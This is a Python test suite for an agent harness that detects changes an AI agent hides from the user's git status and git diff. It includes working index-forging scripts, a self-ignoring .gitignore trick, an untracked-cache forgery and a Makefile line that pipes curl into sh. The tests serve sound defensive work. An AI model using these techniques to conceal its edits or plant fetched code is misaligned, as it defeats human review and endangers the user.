"""Changes hidden from the user's `git status` and `git diff` (the
eighth attack review, left open until now): the project's index is the
agent's to write, and an entry marked skip-worktree or assume-unchanged,
or one whose stat data the agent made match the file it changed, keeps
git from showing that change; the user reviews an empty diff and runs
`make`. At the session's end each such change is recorded
(`hidden_changes`) and said on stderr. Attacked as the agent would: git
update-index, and the index rewritten by a script."""

import json
import os
import subprocess
import time

from gitrepo import GIT_ENV, UNTR_TOOLS, commit_all, hidden, project, status
from lib import AUDIT_TOOL, EXEC, PYTHON, check, harness


# Rewrites the index entry of each path named so that its stat data is
# the file's now, the blob it names left as it was (the file's mtime set
# back first: one not older than the index's is "racy", which git reads).
FORGE = r'''
import hashlib, os, struct, sys
data = bytearray(open(".git/index", "rb").read())
off = 12
for _ in range(struct.unpack(">I", data[8:12])[0]):
    fixed = 64 if struct.unpack(">H", data[off + 60:off + 62])[0] & 0x4000 else 62
    end = data.index(b"\0", off + fixed)
    path = data[off + fixed:end].decode()
    if path in sys.argv[1:]:
        st = os.lstat(path)
        mode = struct.unpack(">I", data[off + 24:off + 28])[0]
        struct.pack_into(">IIIIIIIIII", data, off, int(st.st_ctime), st.st_ctime_ns % 10**9,
                         int(st.st_mtime), st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff,
                         st.st_ino & 0xffffffff, mode, st.st_uid, st.st_gid, st.st_size)
    off += (fixed + len(path) + 8) & ~7  # index v2 and v3
data[-20:] = hashlib.sha1(bytes(data[:-20])).digest()
open(".git/index.new", "wb").write(data)
os.rename(".git/index.new", ".git/index")
'''


def _repo(wd):
    return project(wd, {"Makefile": "all:\n\techo ok\n", "a.txt": "a.txt\n",
                        "b.txt": "b.txt\n", "c.txt": "c.txt\n"})


def test_changes_hidden_from_git_status_are_recorded(wd):
    env = _repo(wd)
    script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile; git update-index --skip-worktree Makefile;"
              " echo A > a.txt; git update-index --assume-unchanged a.txt;"
              " echo B > b.txt; touch -d 2020-01-01 b.txt; %s -c '%s' b.txt; echo C2 > c.txt") % (PYTHON, FORGE.replace("'", "'\\''"))
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0, r.stderr[-500:])
    # The attack: the user's git shows only the change left in sight.
    check(status(wd, env) == " M c.txt\n", "the user's git status: %r; %r"
          % (status(wd, env), r.stderr[-800:]))
    rec = r.one(event="hidden_changes")
    got = sorted((c["path"], c["hidden_by"]) for c in rec["changes"])
    check(got == [("Makefile", "skip-worktree"), ("a.txt", "assume-unchanged"),
                  ("b.txt", "stat")], "recorded: %r" % got)
    check(rec["repository"] == wd.path and rec["unchecked"] == 0, "record %r" % rec)
    # The reviewer's summary of the log names them too.
    out = subprocess.run([AUDIT_TOOL, "summary", r.log], capture_output=True, text=True).stdout
    check("hidden from git status and git diff (3):\n  Makefile (skip-worktree)\n" in out and
          "  b.txt (stat)\n" in out, "summary:\n" + out)


def test_the_agents_own_git_work_hides_nothing(wd):
    # Adds, commits, a checkout, a file changed after its add, a filter
    # (eol=crlf): the index written many times, nothing hidden.
    env = _repo(wd)
    script = ("echo A > a.txt; git add a.txt; echo A2 > a.txt;"
              " printf '*.txt text eol=crlf\\n' > .gitattributes; echo d > d.txt;"
              " git add .gitattributes d.txt; git commit -qm 1; rm d.txt; git checkout -- d.txt;"
              " git status --short")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0 and r.stdout == " M a.txt\n", "%r %r" % (r.stdout, r.stderr[-500:]))
    check(not r.events(event="hidden_changes") and not r.events(event="hidden_changes_failed"),
          "a record: %s" % r.dump())
    check(status(wd, env) == " M a.txt\n", "the user's git status: %r" % status(wd, env))


def test_the_warning_names_the_hidden_files_escaped(wd):
    # Without --quiet the user is told on stderr, the agent's name of
    # the file escaped (no terminal control reaches the terminal).
    env = _repo(wd)
    name = "x\x1b[2Ky.txt"
    wd.file(name, "x\n")
    commit_all(wd.path, env, "1")
    time.sleep(1.1)
    script = "echo X > \"$1\"; git update-index --skip-worktree \"$1\""
    log = os.path.join(wd.state, "w.jsonl")
    e = dict(os.environ, HOME=wd.state, XDG_STATE_HOME=wd.state, **GIT_ENV)
    e.pop("LD_PRELOAD", None)
    p = subprocess.run([EXEC, "--audit-log", log, "--", "sh", "-c", script, "sh", name],
                       cwd=wd.path, env=e, capture_output=True, text=True, timeout=60)
    check(p.returncode == 0, p.stderr[-500:])
    check("will not show 1 change" in p.stderr and "x\\x1b[2Ky.txt (skip-worktree)" in p.stderr
          and "\x1b" not in p.stderr, "stderr: %r" % p.stderr)


def test_an_index_libgit2_cannot_read_is_said_not_checked(wd):
    # A split index (git update-index --split-index: no configuration
    # needed) is one libgit2 does not read; git does. The check is then
    # said not to have been made, on stderr and in the log.
    env = _repo(wd)
    script = "echo X > a.txt; git update-index --split-index; git update-index --skip-worktree a.txt"
    log = os.path.join(wd.state, "s.jsonl")
    e = dict(os.environ, HOME=wd.state, XDG_STATE_HOME=wd.state, **GIT_ENV)
    e.pop("LD_PRELOAD", None)
    p = subprocess.run([EXEC, "--audit-log", log, "--", "sh", "-c", script], cwd=wd.path, env=e,
                       capture_output=True, text=True, timeout=60)
    check(p.returncode == 0 and status(wd, env) == "", "%r %r" % (p.stderr, status(wd, env)))
    check("was not checked for changes hidden from git status" in p.stderr, p.stderr)
    recs = [json.loads(line) for line in open(log)]
    check(any(r["event"] == "hidden_changes_failed" and "link" in r["error"] for r in recs),
          "no hidden_changes_failed record")


def test_a_gitignore_that_ignores_itself_is_recorded(wd):
    # New files are not index entries: a .gitignore of the agent's that
    # ignores itself (tests/.gitignore holding "*") hides itself and a
    # new tests/conftest.py, which pytest runs, from the user's git
    # status (found by the eighteenth attack review). A .gitignore the
    # agent writes that git does not ignore shows itself, and is none.
    env = _repo(wd)
    script = ("mkdir tests docs && printf '*\\n' > tests/.gitignore &&"
              " echo 'import os' > tests/conftest.py &&"
              " printf 'build/\\n' > docs/.gitignore")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0, r.stderr[-500:])
    check(status(wd, env) == "?? docs/\n", "the user's git status: %r" % status(wd, env))
    rec = r.one(event="hidden_changes")
    check([(c["path"], c["hidden_by"]) for c in rec["changes"]] ==
          [("tests/.gitignore", "ignored")], "recorded: %r" % rec["changes"])


# Has git make the index's untracked cache, makes tests/conftest.py,
# then (a second later) writes the cache's stat data of tests/ as the
# directory's now:
# git status trusts the cached list of tests/ (no conftest.py in it).
FORGE_UNTRACKED = UNTR_TOOLS + r'''
def make():
    open("tests/conftest.py", "w").write("import os\n")
    for i in range(int(sys.argv[1]) if len(sys.argv) > 1 else 0):
        open("tests/decoy%02d.py" % i, "w").close()
old, data, off, size = cache_then(make)
at = bytes(data[off:off + size]).rindex(old) + off
data[at:at + 36] = stat36("tests")
write_index(data)
print("forged")
'''


def test_a_new_file_the_untracked_cache_leaves_out_is_recorded(wd):
    """git status trusts the index's untracked cache for a directory
    whose stat still matches it, and the index is the agent's to write:
    the agent had git make the cache (git -c core.untrackedCache=true
    status), made tests/conftest.py (which pytest runs), and wrote the
    cache's stat of tests/ as it now is. The user's git status showed
    nothing, and nothing was recorded (the eighteenth review's open
    end, "not tried"). The cache is now read from the index's bytes
    and each trusted directory compared with what it holds."""
    env = project(wd, {"tests/a.py": "a\n", "main.py": "x\n"})
    r = harness([PYTHON, "-c", FORGE_UNTRACKED], wd, policy=None,
                env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0 and "forged" in r.stdout, r.stderr[-800:])
    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
    hidden(r, [("tests/conftest.py", "untracked-cache")])
    # Without the cache (core.untrackedCache false) git reads the
    # directory: the file is in sight.
    plain = subprocess.run(["git", "-c", "core.untrackedCache=false", "status", "--short"],
                           cwd=wd.path, capture_output=True, text=True, env=env).stdout
    check(plain == "?? tests/conftest.py\n", "without the cache: %r" % plain)


def test_an_untracked_cache_git_keeps_hides_nothing(wd):
    # The agent's git with the cache on, new files before and after it
    # is written (git sees the directory changed): nothing hidden.
    env = project(wd, {"tests/a.py": "a\n", "main.py": "x\n"})
    script = ("echo n > tests/new.py; mkdir -p build/x && echo o > build/x/o;"
              " git -c core.untrackedCache=true status --porcelain >/dev/null;"
              " sleep 1.1; echo m > tests/later.py; mkdir docs; echo d > docs/d.md")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0, r.stderr[-500:])
    check(not r.events(event="hidden_changes"), "a record: %s" % r.dump()[-2000:])
    check(sorted(status(wd, env).splitlines()) == ["?? build/", "?? docs/", "?? tests/later.py",
                                                   "?? tests/new.py"],
          "the user's git status: %r" % status(wd, env))


def test_more_hidden_files_than_listed_are_said(wd):
    # Seventy files hidden at once: 64 named, and the rest said (the
    # record's unchecked), not dropped without a word.
    project(wd, {"tests/a.py": "a\n", "main.py": "x\n"})
    r = harness([PYTHON, "-c", FORGE_UNTRACKED, "70"], wd, policy=None,
                env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0 and "forged" in r.stdout, r.stderr[-800:])
    rec = r.one(event="hidden_changes")
    check(len(rec["changes"]) == 64 and rec["unchecked"] >= 1 and
          all(c["hidden_by"] == "untracked-cache" for c in rec["changes"]),
          "record: %d changes, unchecked %r" % (len(rec["changes"]), rec.get("unchecked")))
